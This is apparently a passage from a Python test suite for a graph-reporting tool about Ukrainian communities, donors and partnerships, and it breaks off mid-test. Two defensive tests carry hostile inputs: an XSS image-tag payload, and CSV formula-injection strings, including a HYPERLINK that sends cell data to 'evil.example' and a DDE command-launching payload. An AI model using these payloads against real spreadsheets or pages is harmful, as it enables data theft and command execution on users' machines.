"""Relationship reports and forgiving name lookup, on the fixture graph."""

from __future__ import annotations

import csv
import io
import json

import pytest
from click.testing import CliRunner
from rdflib import URIRef

from graphtool import names
from graphtool.cli import main
from graphtool.report import Link, Report, ReportError, Source, build_report, render_report, report_rows, write_report
from tests.fixtures_graph import TRIG, load_small_graph

XSS = "<img src=x onerror=alert(1)>"


@pytest.fixture(scope="module")
def store():
    return load_small_graph()


# ---------------------------------------------------------------- names


@pytest.mark.parametrize(
    "typed",
    ["Житомир", "Zhytomyr", "житомирі", "ЖИТОМИРІ", "Житомирa", "Житомирська громада", "Житомирській громаді",
     "Zhytomyr city hromada", "https://w3id.org/graphtool/id/katottg/UA18040150000043275"],
)  # fmt: skip
def test_community_names_are_matched_forgivingly(store, typed):
    found = names.resolve(store, typed, ["Community"], prefer_hromada=True)
    assert found.label == "Житомирська міська територіальна громада"


class _Asking:
    """A reader of its own (no name index built for it yet) that writes down the questions it is asked."""

    def __init__(self, reader) -> None:
        self.reader, self.asked = reader, []

    def select(self, query, bindings=None):
        self.asked.append(query)
        return self.reader.select(query, bindings)


def test_an_iri_is_resolved_alone_as_the_whole_index_resolves_it(store):
    """An IRI is looked up by itself (its class and names, two bound questions), never by the index of every
    name in the store: the same entity, label and type as the index gives, and the same errors, for every
    entity of the fixture, every type asked, and IRIs the store does not know (bench/RESULTS.md, "the first
    call's cost")."""
    index = names.name_index(store)
    asked = [*index.entries, "https://w3id.org/graphtool/id/donor/nobody", "http://example.org/x"]
    doc = next(str(e) for (e,) in store.select("SELECT DISTINCT ?e WHERE { ?e a gt:Document }").rows)
    for iri in [*asked, doc]:
        for types in (None, ["Community"], ["Donor"], ["Program", "Project"]):
            outcomes = []
            for reader in (store, _Asking(store)):
                try:
                    outcomes.append(names.resolve(reader, iri, types, prefer_hromada=types == ["Community"]))
                except names.NameLookupError as exc:
                    outcomes.append((type(exc), str(exc)))
                if reader is not store:
                    assert len(reader.asked) <= 2 and all("VALUES" in q for q in reader.asked), reader.asked
            assert outcomes[0] == outcomes[1], (iri, types)
    assert len(index.entries) > 20


def test_settlement_itself_without_hromada_preference(store):
    assert names.resolve(store, "у Житомирі".split()[1], ["Community"]).label == "Житомир"


@pytest.mark.parametrize(
    ("typed", "label"),
    [("usaid", "USAID"), ("Агентства США з міжнародного розвитку", "USAID"), ("ЄС", "Європейський Союз"),
     ("European Union", "Європейський Союз"), ("Європейським Союзом", "Європейський Союз"),
     ("u-lead", "U-LEAD з Європою"), ("Любліном", "Люблін"), ("Lublin", "Люблін"), ("Ольштин", "Ольштин"),
     ("розвитку міжнародних звʼязків", "Розвиток міжнародних зв'язків"), ("Lutsk", "Луцька міська територіальна громада")],
)  # fmt: skip
def test_other_names(store, typed, label):
    assert names.resolve(store, typed).label == label


def test_ambiguous_name_lists_candidates(store):
    with pytest.raises(names.AmbiguousName) as info:
        names.resolve(store, "міська територіальна громада", ["Community"])
    labels = {c.label for c in info.value.candidates}
    assert labels == {"Житомирська міська територіальна громада", "Бердичівська міська територіальна громада",
                      "Луцька міська територіальна громада"}  # fmt: skip
    assert "Бердичівська міська територіальна громада" in str(info.value)


def test_unknown_name(store):
    with pytest.raises(names.NameNotFound):
        names.resolve(store, "Тернопіль", ["Community"])
    with pytest.raises(names.NameNotFound):
        names.resolve(store, "USAID", ["Community"])


def test_fold_and_translit():
    assert names.fold("«Київ» – ЗВʼЯЗОК") == names.fold("київ звязок")
    assert names.fold("Київ") == names.fold("Kиїв")  # Latin K
    assert names.translit(names.fold("Житомир")) == "zhytomyr"


# ---------------------------------------------------------------- reports


def links(report, group_prefix: str) -> list[tuple[str, str, list[str]]]:
    group = next(v for k, v in report.groups.items() if k.startswith(group_prefix))
    return [(link.other, link.via, [s.document for s in link.sources]) for link in group]


def test_community_report(store):
    report = build_report(store, "community", "житомирі")
    assert report.entity == "Житомирська міська територіальна громада"
    assert links(report, "Донори") == [
        ("GIZ", "U-LEAD з Європою", ["news-zhytomyr.txt"]),
        ("GIZ", "Безпечна школа", ["news-zhytomyr.txt"]),
        ("USAID", "Молодіжний хаб", ["news-zhytomyr.txt"]),
        ("Європейський Союз", "U-LEAD з Європою", ["news-zhytomyr.txt"]),
    ]
    assert [x[0] for x in links(report, "Міста-партнери")] == ["Люблін (Польща)", "Майнц (Німеччина)"]
    assert [x[0] for x in links(report, "Виконавці")] == ["Агенція розвитку Житомира"]
    partner = next(v for k, v in report.groups.items() if k.startswith("Міста-партнери"))[0]
    assert partner.sources[0].sentence.startswith("Житомир підписав угоду про партнерство")
    assert ("КАТОТТГ / KATOTTG", "UA18040150000043275") in report.facts


def test_community_report_with_plan(store):
    report = build_report(store, "community", "Луцьк")
    assert [x[0] for x in links(report, "Плани")] == [
        "План заходів Луцької міської територіальної громади на 2025–2027 роки"
    ]
    assert [x[0] for x in links(report, "Донори")] == ["Європейський Союз"]
    assert {x[0] for x in links(report, "Проєкти")} == {"Новий автобус", "Парк над річкою"}


def test_donor_report(store):
    report = build_report(store, "donor", "GIZ")
    assert [x[0] for x in links(report, "Фінансує")] == ["U-LEAD з Європою", "Безпечна школа"]
    assert {x[0] for x in links(report, "Охоплені громади")} == {
        "Бердичівська міська територіальна громада", "Житомирська міська територіальна громада"}  # fmt: skip
    assert [x[0] for x in links(report, "Співфінансувальники")] == ["Європейський Союз"]


def test_program_report(store):
    report = build_report(store, "program", "DOBRE")
    assert [x[0] for x in links(report, "Донори")] == ["USAID", "USAID"]
    assert [x[0] for x in links(report, "Проєкти")] == ["Молодіжний хаб", "Чиста вода"]
    assert {x[0] for x in links(report, "Громади")} == {"Бердичівська міська територіальна громада", "Житомир"}


def test_partnerships_report(store):
    everything = build_report(store, "partnerships")
    assert list(everything.groups) == ["Польща", "Німеччина"]
    assert [(x.subject, x.other) for x in everything.groups["Польща"]] == [
        ("Житомирська міська територіальна громада", "Люблін (Польща)"),
        ("Луцька міська територіальна громада", "Люблін (Польща)"),
        ("Луцька міська територіальна громада", "Ольштин (Польща)"),
    ]
    oblast = build_report(store, "partnerships", "Житомирська область")
    assert {x.other for g in oblast.groups.values() for x in g} == {"Люблін (Польща)", "Майнц (Німеччина)"}


class _Recorder:
    """A reader that writes down each question it is asked (by its summary line) and whether it was bound."""

    def __init__(self, reader) -> None:
        self.reader, self.asked = reader, []

    def select(self, query, bindings=None):
        # bound as terms: by the reader (one value) or, many values at once, by a VALUES block in the text
        self.asked.append((query.splitlines()[0], bool(bindings) or " VALUES (?" in query))
        return self.reader.select(query, bindings)


@pytest.mark.parametrize(("kind", "name"), [("community", "Житомир"), ("donor", "GIZ"), ("program", "DOBRE"),
                                            ("partnerships", "Житомирська область"), ("3w", None)])  # fmt: skip
def test_a_report_asks_about_what_it_reaches_not_the_whole_store(store, kind, name, monkeypatch):
    """Reports read through the Reader, bound questions about the entities they reach (graphtool.report_graph),
    so the same .rq files serve a SPARQL server and a large store is not loaded whole. (The name lookup, which
    keeps an index of every name, is not the report's reading: it asks the store itself here.)"""
    resolve = names.resolve
    monkeypatch.setattr(names, "resolve", lambda _reader, *args, **kw: resolve(store, *args, **kw))
    recorder = _Recorder(store)
    report = build_report(recorder, kind, name)
    assert any(report.groups.values())
    assert recorder.asked and all(bound for _summary, bound in recorder.asked), recorder.asked


def test_the_questions_a_report_asks_do_not_grow_with_the_entities_it_reaches(store):
    """Cards, links and evidence of many entities are one question each (a VALUES block of terms), and a
    report asks about the documents it quotes at once: not one question per entity or per document."""
    from graphtool.report_graph import LinkGraph

    entities = sorted({str(row[0]) for row in store.select("SELECT ?e WHERE { ?e a ?c FILTER(STRSTARTS(STR(?c), STR(gt:))) "
                                                             "FILTER(?c NOT IN (gt:Document, gt:Evidence, gt:Mention)) }").rows})  # fmt: skip
    assert len(entities) > 20
    asked = []
    for some in (entities[:2], entities):
        recorder = _Recorder(store)
        graph = LinkGraph(recorder)
        graph.read_links(some)
        asked.append(len(recorder.asked))
        assert all(graph.card(e) is None or graph.out_edges(e) is not None for e in some)
        assert len(recorder.asked) == asked[-1]  # everything the walk needs was read above
    assert asked[1] <= asked[0] <= 4, asked  # cards, links, evidence, the cards at their other ends
    # the same cards and links as asking entity by entity
    one_by_one = LinkGraph(store)
    for e in entities:
        assert one_by_one.card(e) == graph.card(e)
        assert sorted(one_by_one.out_edges(e)) == sorted(graph.out_edges(e))  # in the engine's order: sorted
        assert sorted(one_by_one.in_edges(e)) == sorted(graph.in_edges(e))
        for edge in graph.out_edges(e):
            assert one_by_one.get_edge_data(*edge) == graph.get_edge_data(*edge)
    recorder = _Recorder(store)
    report = build_report(recorder, "3w", None)
    quoted = {s.document for links in report.groups.values() for link in links for s in link.sources}
    assert len(quoted) > 1 and report.documents
    # the first lines written at build time, one question; none left to pick from the sentences
    assert sum("first line, as the store wrote it" in summary for summary, _bound in recorder.asked) == 1
    assert not any("read from its sentences" in summary for summary, _bound in recorder.asked)


@pytest.mark.parametrize(("kind", "name"), [("community", "Житомир"), ("community", "Луцьк"), ("donor", "GIZ"),
                                            ("program", "DOBRE"), ("partnerships", "Житомирська область"),
                                            ("partnerships", None), ("3w", None)])  # fmt: skip
def test_a_report_reads_the_evidence_of_the_links_it_shows_and_only_those(store, kind, name, monkeypatch):
    """A report's first pass names the links it shows; their evidence, read in one batch after it, is what a
    report reading each link's evidence as it asks shows (none lost, none moved to another link), and no
    link it walks without showing has its evidence read."""
    from graphtool.report_graph import LinkGraph

    with monkeypatch.context() as m:  # the reference: each link's evidence read when the report asks for it
        m.setattr(LinkGraph, "evidence_later", None)  # one pass
        reference = _Recorder(store)
        expected = build_report(reference, kind, name)
    graphs, later = [], LinkGraph.evidence_later

    def noting(self):
        graphs.append(self)
        return later(self)

    monkeypatch.setattr(LinkGraph, "evidence_later", noting)
    recorder = _Recorder(store)
    report = build_report(recorder, kind, name)
    assert report.to_dict() == expected.to_dict()
    # the first pass asks every other question: the second asks none of them again
    others = [[q for q in r.asked if "The evidence of every link" not in q[0]] for r in (recorder, reference)]
    assert others[0] == others[1]
    assert render_report(report, "md") == render_report(expected, "md")
    [graph] = graphs
    shown = {(s.document, s.sentence) for links in report.groups.values() for link in links for s in link.sources}
    read = {edge: items for edge, items in graph._evidence.items() if items}
    assert read and shown
    for edge, items in read.items():  # every statement read is one the report shows
        assert {(x["document"], x["sentence"]) for x in items} <= shown, edge
    if kind == "community":  # a community report walks links it does not show: their evidence stays unread
        assert set(graph._evidence) < graph._edges


def test_a_documents_first_line_is_its_least_offset_then_least_sentence():
    """``document_lines`` picks each document's first line in the question (one row per document): offsets by
    number (9 before 10, which a string order would swap), a tie at one offset by the least sentence, and
    the document's source address after it."""
    from pyoxigraph import Literal, NamedNode, Quad

    from graphtool.report import document_lines
    from graphtool.store import GraphStore
    from graphtool.vocab import GT

    store = GraphStore(None)
    xsd_int = NamedNode("http://www.w3.org/2001/XMLSchema#integer")
    quads = []
    for name, sentences, source in (
        ("a.txt", [(10, "Ten comes second."), (9, "Nine comes first."), (100, "Later.")], None),
        ("b.txt", [(0, "Zebra at zero."), (0, "Aardvark at zero."), (3, "Ab")], "https://example.org/b"),
        ("c.txt", [], "https://example.org/c"),
    ):  # fmt: skip
        doc = NamedNode(f"https://example.org/doc/{name}")
        quads.append(Quad(doc, NamedNode(str(GT.fileName)), Literal(name), doc))
        if source:
            quads.append(Quad(doc, NamedNode("http://purl.org/dc/terms/source"), Literal(source), doc))
        for i, (start, text) in enumerate(sentences):
            x = NamedNode(f"https://example.org/ev/{name}/{i}")
            quads += [
                Quad(x, NamedNode("http://www.w3.org/ns/prov#wasDerivedFrom"), doc, doc),
                Quad(x, NamedNode(str(GT.sentence)), Literal(text), doc),
                Quad(x, NamedNode(str(GT.startOffset)), Literal(str(start), datatype=xsd_int), doc),
            ]
    store.oxigraph.extend(quads)
    link = Link("funds", "X", "Donor", "x", sources=[Source(n, "") for n in ("a.txt", "b.txt", "c.txt", "d.txt")])
    report = Report("donor", "t", "X", "Donor", "x", groups={"g": [link]})
    assert document_lines(store, report) == {
        "a.txt": "Nine comes first.",
        "b.txt": "Aardvark at zero. — https://example.org/b",
        "c.txt": "https://example.org/c",
    }


def _document(name: str, sentences: list[tuple[int, str]], source: str | None = None) -> tuple[str, list]:
    """A document graph of evidence sentences at offsets (``?x prov:wasDerivedFrom ?doc ; gt:sentence ;
    gt:startOffset``) and its file name: what the first line is picked from (and, with a mention, what the
    derived graph counts)."""
    from pyoxigraph import Literal, NamedNode, Quad

    from graphtool.vocab import GT

    doc = NamedNode(f"https://example.org/doc/{name}")
    xsd_int = NamedNode("http://www.w3.org/2001/XMLSchema#integer")
    quads = [Quad(doc, NamedNode(str(GT.fileName)), Literal(name), doc),
             Quad(NamedNode("https://example.org/entity"), NamedNode(str(GT.mentionedIn)), doc, doc)]  # fmt: skip
    if source:
        quads.append(Quad(doc, NamedNode("http://purl.org/dc/terms/source"), Literal(source), doc))
    for i, (start, text) in enumerate(sentences):
        x = NamedNode(f"https://example.org/ev/{name}/{i}")
        quads += [
            Quad(x, NamedNode("http://www.w3.org/1999/02/22-rdf-syntax-ns#type"), NamedNode(str(GT.Evidence)), doc),
            Quad(x, NamedNode("http://www.w3.org/ns/prov#wasDerivedFrom"), doc, doc),
            Quad(x, NamedNode(str(GT.sentence)), Literal(text), doc),
            Quad(x, NamedNode(str(GT.startOffset)), Literal(str(start), datatype=xsd_int), doc),
        ]
    return doc.value, quads


def _quoting(*names: str) -> Report:
    link = Link("funds", "X", "Donor", "x", sources=[Source(n, "") for n in names])
    return Report("donor", "t", "X", "Donor", "x", groups={"g": [link]})


def _first_lines(store) -> dict[str, str]:
    """The ``gt:firstLine`` values of the derived graph and of the default-graph index, by document IRI."""
    from graphtool.derived import DERIVED_GRAPH

    out = {}
    for graph in (f"GRAPH <{DERIVED_GRAPH}> {{ ?doc gt:firstLine ?line }}", "?doc gt:firstLine ?line"):
        rows = store.oxigraph.query(f"SELECT ?doc ?line WHERE {{ {graph} }}", prefixes={"gt": str(GT_NS)})
        out[graph.startswith("GRAPH")] = {row[0].value: row[1].value for row in rows}
    assert out[True] == out[False], "the index holds the derived graph's first lines"
    return out[True]


GT_NS = "https://w3id.org/graphtool/ontology#"


def test_a_documents_first_line_is_written_at_build_time_and_follows_reload_and_removal():
    """The store writes each document's first line (``gt:firstLine``, graphtool/derived.py) when it is written;
    reloading the document replaces it, removing the document retracts it, and the report reads it with one
    question per batch, not the sentences."""
    from graphtool.report import document_lines
    from graphtool.store import GraphStore

    store = GraphStore(None)
    a, quads = _document("a.txt", [(10, "Ten comes second."), (9, "Nine comes first."), (100, "Later.")])
    store.replace_document(a, quads)
    b, quads = _document("b.txt", [(0, "Zebra at zero."), (0, "Aardvark at zero.")], "https://example.org/b")
    store.replace_document(b, quads)
    store.flush()
    assert _first_lines(store) == {a: "0000000009 Nine comes first.", b: "0000000000 Aardvark at zero."}
    recorder = _Recorder(store)
    assert document_lines(recorder, _quoting("a.txt", "b.txt")) == {
        "a.txt": "Nine comes first.", "b.txt": "Aardvark at zero. — https://example.org/b"}  # fmt: skip
    assert len(recorder.asked) == 1 and "first line, as the store wrote it" in recorder.asked[0][0]

    store.replace_document(a, _document("a.txt", [(42, "Reloaded."), (7, "Now seven is first.")])[1])
    store.flush()
    assert _first_lines(store) == {a: "0000000007 Now seven is first.", b: "0000000000 Aardvark at zero."}
    assert document_lines(store, _quoting("a.txt"))["a.txt"] == "Now seven is first."

    store.replace_document(a, _document("a.txt", [])[1])  # reloaded without a sentence: no first line
    store.flush()
    assert _first_lines(store) == {b: "0000000000 Aardvark at zero."}
    assert document_lines(store, _quoting("a.txt")) == {}
    store.remove_documents([b])
    store.flush()
    assert _first_lines(store) == {}
    assert document_lines(store, _quoting("a.txt", "b.txt")) == {}


def test_a_store_written_before_first_lines_answers_the_same(tmp_path):
    """A store whose derived graph has no ``gt:firstLine`` (written by an older version): the report picks
    the first lines from the sentences instead (``document_lines_read``), with the same answer; opened for
    writing, its next refresh writes every document's first line, not only the changed documents'."""
    from graphtool.derived import DERIVED_GRAPH
    from graphtool.report import document_lines
    from graphtool.store import GraphStore

    path = tmp_path / "store"
    store = GraphStore(path)
    docs = {name: _document(name, sentences) for name, sentences in (
        ("a.txt", [(10, "Ten comes second."), (9, "Nine comes first.")]),
        ("b.txt", [(3, "Three."), (0, "Zero.")]),
        ("c.txt", [(1, "One.")]),
        *((f"{i}.txt", [(i, f"Sentence {i}.")]) for i in range(5)),
    )}  # fmt: skip
    for iri, quads in docs.values():
        store.replace_document(iri, quads)
    store.flush()
    report = _quoting("a.txt", "b.txt", "c.txt")
    expected = {"a.txt": "Nine comes first.", "b.txt": "Zero.", "c.txt": "One."}
    assert document_lines(store, report) == expected and len(_first_lines(store)) == len(docs)
    # what an older version wrote: the same derived graph (here the evidence counts) without the first lines
    store.oxigraph.update(f"DELETE WHERE {{ GRAPH <{DERIVED_GRAPH}> {{ ?d <{GT_NS}firstLine> ?l }} }} ; "
                          f"DELETE WHERE {{ ?d <{GT_NS}firstLine> ?l }}")  # fmt: skip
    store.flush()
    del store

    old = GraphStore(path, read_only=True)
    recorder = _Recorder(old)
    assert document_lines(recorder, report) == expected
    assert [summary for summary, _bound in recorder.asked if "read from its sentences" in summary]
    del old, recorder

    store = GraphStore(path)
    store.replace_document(*_document("d.txt", [(5, "Five.")]))  # one changed document, yet every row
    store.flush()
    lines = _first_lines(store)
    assert lines["https://example.org/doc/d.txt"] == "0000000005 Five." and len(lines) == len(docs) + 1
    assert lines[docs["a.txt"][0]] == "0000000009 Nine comes first."
    assert lines[docs["4.txt"][0]] == "0000000004 Sentence 4."
    assert not store._derived_outdated()


def test_an_entitys_links_no_group_shows_are_other_links(store):
    """Every relation reaches a report: a link the kind's groups do not cover is listed under Other links."""
    report = build_report(store, "community", "Житомир")
    shown = {(link.relation, link.other_iri) for links in report.groups.values() for link in links}
    assert "Інші зв'язки / Other links" not in report.groups  # the community groups show all its links here
    from graphtool.report_graph import LinkGraph

    graph = LinkGraph(store)
    own = graph.out_edges(report.entity_iri) + graph.in_edges(report.entity_iri)
    assert own and all((rel, v if u == report.entity_iri else u) in shown or rel == "locatedIn" for u, v, rel in own)


def test_report_errors(store):
    with pytest.raises(ReportError, match="may mean"):
        build_report(store, "community", "міська територіальна громада")
    with pytest.raises(ReportError, match="no Donor named"):
        build_report(store, "donor", "Житомир")
    with pytest.raises(ReportError, match="needs a NAME"):
        build_report(store, "donor", None)


def test_formats(store, tmp_path):
    report = build_report(store, "community", "Zhytomyr")
    md = render_report(report, "md")
    assert md.startswith("# Громада / Community: Житомирська міська територіальна громада")
    assert "(news-zhytomyr.txt)**: «Житомир підписав угоду про партнерство" in md  # first line, then file name
    assert report.documents["news-zhytomyr.txt"].startswith("За підтримки GIZ Житомирська")
    page = render_report(report, "html")
    assert page.startswith("<!DOCTYPE html>") and "Люблін (Польща)" in page
    data = json.loads(render_report(report, "json"))
    assert data["entity"]["iri"].endswith("UA18040150000043275")
    table = list(csv.DictReader(io.StringIO(render_report(report, "csv").removeprefix("\ufeff"))))
    assert table == report_rows(report) and any(r["document"] == "news-zhytomyr.txt" for r in table)
    write_report(report, "xlsx", tmp_path / "r.xlsx")
    from openpyxl import load_workbook

    wb = load_workbook(tmp_path / "r.xlsx")
    assert wb.sheetnames == ["Summary", "Links"]
    assert wb["Links"].max_row == len(table) + 1
    with pytest.raises(ReportError, match="xlsx needs"):
        write_report(report, "xlsx", None)


def test_csv_opens_in_excel_with_cyrillic_and_offsets(store, tmp_path):
    report = build_report(store, "community", "Житомир")
    path = tmp_path / "r.csv"
    write_report(report, "csv", path)
    raw = path.read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")  # the BOM Excel needs to read UTF-8
    rows = list(csv.DictReader(io.StringIO(raw.decode("utf-8-sig"))))
    partner = next(r for r in rows if r["other"] == "Люблін (Польща)")
    assert partner["sentence"].startswith("Житомир підписав угоду")  # Cyrillic intact
    assert int(partner["end"]) > int(partner["start"]) >= 0  # evidence offsets in the document


def test_json_uses_stable_keys_and_objects(store):
    data = json.loads(render_report(build_report(store, "community", "Житомир"), "json"))
    assert {"donors", "projects", "partner_cities", "plans", "codifier"} <= set(data["groups"])
    donors = data["groups"]["donors"]
    assert donors["title"] == "Донори / Donors" and donors["links"][0]["other"] == "GIZ"
    assert data["facts"]["katottg"] == {"label": "КАТОТТГ / KATOTTG", "value": "UA18040150000043275"}
    assert set(donors["links"][0]["sources"][0]) == {"document", "sentence", "start", "end"}
    assert data["documents"]["news-zhytomyr.txt"]["first_line"].startswith("За підтримки GIZ")


def test_xlsx_header_filter_links(store, tmp_path):
    from openpyxl import load_workbook

    write_report(build_report(store, "donor", "USAID"), "xlsx", tmp_path / "r.xlsx")
    sheet = load_workbook(tmp_path / "r.xlsx")["Links"]
    assert sheet.freeze_panes == "A2" and sheet.auto_filter.ref.startswith("A1:")
    header = [c.value for c in sheet[1]]
    assert "Документ / Document" in header and "Через / Via" in header
    iri = sheet.cell(row=2, column=header.index("IRI") + 1)
    assert iri.hyperlink is not None and iri.hyperlink.target == iri.value


def test_empty_via_column_is_left_out_and_html_has_contents(store):
    partnerships = build_report(store, "partnerships")
    assert "Через / Via" not in render_report(partnerships, "md")
    assert "Через / Via" in render_report(build_report(store, "community", "Житомир"), "md")
    from graphtool.report import render_html

    page = render_html(build_report(store, "donor", "GIZ"), store="/data/store")
    assert '<a href="/report' not in page  # a file on disk links nowhere
    served = render_html(build_report(store, "community", "Житомир"), link_base="/report")
    assert '<a href="/report?kind=donor&amp;name=https%3A%2F%2Fw3id.org%2Fgraphtool%2Fid%2Fdonor%2Fgiz">' in served
    assert names.resolve(store, "https://w3id.org/graphtool/id/donor/giz", ["Donor"]).label == "GIZ"
    assert "Зміст / Contents" in page and '<a href="#g0">' in page and 'id="g0"' in page
    assert "<footer>Сховище / Store: /data/store" in page


def test_city_and_hromada_rows_are_one(store):
    from graphtool.report import _merge_places

    a = Link("locatedIn", "Хаб", "Project", "p1", via="", sources=[Source("a.txt", "Хаб у громаді.")])
    b = Link("locatedIn", "Хаб", "Project", "p1", via="Житомир", sources=[Source("b.txt", "Хаб у Житомирі.")])
    merged = _merge_places([a, b])
    assert (
        len(merged) == 1
        and merged[0].via == "Житомир"
        and [s.document for s in merged[0].sources] == ["a.txt", "b.txt"]
    )
    report = build_report(store, "community", "Житомир")
    projects = links(report, "Проєкти")
    assert len({x[0] for x in projects}) == len(projects)  # one row per project


def test_plan_measures_summarised(store):
    facts = dict(build_report(store, "community", "Луцьк").facts)
    assert facts["Заходи планів / Plan measures"] == "3"
    assert facts["Заходи за джерелом / Measures by funding source"].startswith("бюджет громади: 3")
    assert "Управління міжнародного співробітництва: 2" in facts["Заходи за виконавцем / Measures by executor"]
    assert facts["Міжнародні заходи / International measures"].startswith("2: ")
    data = json.loads(render_report(build_report(store, "community", "Луцьк"), "json"))
    assert data["facts"]["plan_measures"]["value"] == "3"


def test_who_what_where(store, store_dir):
    report = build_report(store, "3w")
    assert list(report.groups) == ["GIZ", "USAID", "Європейський Союз"]
    assert dict(report.facts)["Областей / Oblasts"] == "2"
    usaid = {(x.subject, x.other, x.via) for x in report.groups["USAID"]}
    assert ("Житомирська область", "Бердичівська міська територіальна громада", "Чиста вода") in usaid
    md = render_report(report, "md")
    assert "| Область / Oblast | Зв'язок / Link | Через / Via |" in md
    result = CliRunner().invoke(main, ["report", "3w", "--format", "csv", "--store", str(store_dir)])
    assert result.exit_code == 0 and "Молодіжний хаб" in result.output


def test_mention_is_highlighted_in_html(store):
    page = render_report(build_report(store, "community", "Житомир"), "html")
    assert "з <mark>Любліном</mark>" in page or "<mark>Люблін" in page
    assert "<mark>USAID</mark>" in page


def test_document_text_is_escaped(tmp_path):
    from pyoxigraph import Literal, NamedNode, Quad

    store = load_small_graph()
    doc = NamedNode("https://w3id.org/graphtool/id/doc/news-zhytomyr.txt")
    node = NamedNode("https://w3id.org/graphtool/id/donor/giz")
    store.oxigraph.add(Quad(node, NamedNode("http://www.w3.org/2004/02/skos/core#prefLabel"),
                            Literal(f"GIZ {XSS}", language="uk"), doc))  # fmt: skip
    report = build_report(store, "community", "Житомир")
    page = render_report(report, "html")
    assert XSS not in page and "&lt;img src=x onerror=alert(1)&gt;" in page
    assert XSS not in render_report(report, "md")
    write_report(report, "xlsx", tmp_path / "x.xlsx")


@pytest.fixture(scope="module")
def store_dir(tmp_path_factory):
    from pyoxigraph import RdfFormat

    from graphtool.store import GraphStore

    path = tmp_path_factory.mktemp("rstore") / "store"
    s = GraphStore(path)
    s.oxigraph.load(path=str(TRIG), format=RdfFormat.TRIG)
    s.flush()
    del s
    return path


@pytest.mark.parametrize("fmt", ["md", "html", "csv", "json", "xlsx"])
def test_cli_report(store_dir, tmp_path, fmt):
    out = tmp_path / f"report.{fmt}"
    result = CliRunner().invoke(
        main, ["report", "donor", "usaid", "--format", fmt, "-o", str(out), "--store", str(store_dir)]
    )
    assert result.exit_code == 0, result.output
    assert out.stat().st_size > 200
    if fmt != "xlsx":
        assert "Чиста вода" in out.read_text(encoding="utf-8")


def test_cli_report_stdout_and_errors(store_dir):
    result = CliRunner().invoke(main, ["report", "partnerships", "--store", str(store_dir)])
    assert result.exit_code == 0 and "## Польща (3)" in result.output
    result = CliRunner().invoke(
        main, ["report", "community", "міська територіальна громада", "--store", str(store_dir)]
    )
    assert result.exit_code == 1 and "Луцька міська територіальна громада" in result.output


FORMULAS = ['=HYPERLINK("http://evil.example/?x="&A1,"click")', "+cmd|' /C calc'!A0", "@SUM(1+1)", "-2+3+cmd|x"]


@pytest.mark.parametrize("payload", FORMULAS)
def test_report_csv_does_not_start_cells_with_a_formula(payload):
    """Document text such as '=HYPERLINK(…)' is shown as text by a spreadsheet (CSV, as in XLSX)."""
    from pyoxigraph import Literal, NamedNode, Quad

    store = load_small_graph()
    doc = NamedNode("https://w3id.org/graphtool/id/doc/news-zhytomyr.txt")
    node = NamedNode("https://w3id.org/graphtool/id/donor/giz")
    store.oxigraph.add(Quad(node, NamedNode("http://www.w3.org/2004/02/skos/core#prefLabel"),
                            Literal(payload, language="uk"), doc))  # fmt: skip
    report = build_report(store, "community", "Житомир")
    rows = list(csv.DictReader(io.StringIO(render_report(report, "csv"))))
    cells = [v for r in rows for v in r.values()]
    assert "'" + payload in cells
    assert not any(c and c[0] in "=+-@" for c in cells), [c for c in cells if c and c[0] in "=+-@"]


def test_partnership_status_reaches_reports_and_maps(tmp_path) -> None:
    """A partnership's status (signed / planned / ended) read from its sentence shows in the report and the map."""
    from graphtool.build import build
    from graphtool.maps import write_map
    from graphtool.report import build_report, render_markdown
    from graphtool.store import GraphStore

    doc = tmp_path / "lutsk.txt"
    doc.write_text(
        "Луцька міська рада розірвала угоду про партнерство з містом Твер (Росія).\n\n"
        "Луцьк планує підписати меморандум про співпрацю з містом Кросно (Польща).\n",
        encoding="utf-8",
    )
    store = GraphStore(None)
    assert build([doc], store).ok
    text = render_markdown(build_report(store, "partnerships", None))
    assert "припинено / ended" in text and "заплановано / planned" in text
    out = tmp_path / "map.html"
    write_map(store, out)
    html = out.read_text(encoding="utf-8")
    assert '"status": ' in html and '/ ended"' in html and '/ planned"' in html  # JSON in the page, \u-escaped


def test_reports_show_the_source_address_a_document_names(tmp_path) -> None:
    """A page saved with its address ("SOURCE: https://…" on the first line) is shown with that address."""
    from graphtool.build import build
    from graphtool.report import build_report, render_markdown
    from graphtool.store import GraphStore

    doc = tmp_path / "page.txt"
    doc.write_text(
        "SOURCE: https://example.gov.ua/news/1\n\nПроєкт «Тепла школа» у Луцьку реалізується за підтримки USAID.\n",
        encoding="utf-8",
    )
    store = GraphStore(None)
    assert build([doc], store).ok
    text = render_markdown(build_report(store, "community", "Луцьк"))
    assert "https://example.gov.ua/news/1" in text and "page.txt" in text


def test_entity_evidence_is_one_row_per_statement_and_its_optional_fields():
    """``entity_evidence`` gives a statement's fields as columns: offsets and status optional, a statement
    without a document or sentence gives no item, two sentences give two items, at either end of a link."""
    from pyoxigraph import Literal, NamedNode, Quad

    from graphtool.reader import ask
    from graphtool.report_graph import evidence_by_link
    from graphtool.store import GraphStore
    from graphtool.vocab import GT

    rdf = "http://www.w3.org/1999/02/22-rdf-syntax-ns#"
    xsd_int = NamedNode("http://www.w3.org/2001/XMLSchema#integer")
    a, b, doc = (NamedNode(f"https://example.org/{x}") for x in ("a", "b", "doc"))
    quads = [Quad(doc, NamedNode(str(GT.fileName)), Literal("d.txt"), doc)]
    statements = {  # statement -> (sentences, start, end, status, in a document)
        "full": (["Full."], 4, 9, "signed", True),
        "bare": (["Bare."], None, None, None, True),
        "twice": (["One.", "Two."], 20, 24, None, True),
        "nowhere": (["No document."], 30, 42, None, False),
    }
    for name, (sentences, start, end, status, in_doc) in statements.items():
        ev = NamedNode(f"https://example.org/ev/{name}")
        quads += [Quad(ev, NamedNode(f"{rdf}type"), NamedNode(str(GT.Evidence)), doc),
                  Quad(ev, NamedNode(f"{rdf}subject"), a, doc), Quad(ev, NamedNode(f"{rdf}predicate"),
                  NamedNode(str(GT.partnerOf)), doc), Quad(ev, NamedNode(f"{rdf}object"), b, doc)]  # fmt: skip
        quads += [Quad(ev, NamedNode(str(GT.sentence)), Literal(text), doc) for text in sentences]
        for prop, value in (("startOffset", start), ("endOffset", end)):
            if value is not None:
                quads.append(Quad(ev, NamedNode(str(GT[prop])), Literal(str(value), datatype=xsd_int), doc))
        if status:
            quads.append(Quad(ev, NamedNode(str(GT.partnershipStatus)), Literal(status), doc))
        if in_doc:
            quads.append(Quad(ev, NamedNode("http://www.w3.org/ns/prov#wasDerivedFrom"), doc, doc))
    store = GraphStore(None)
    store.oxigraph.extend(quads)
    edge = (a.value, b.value, "partnerOf")
    expected = [
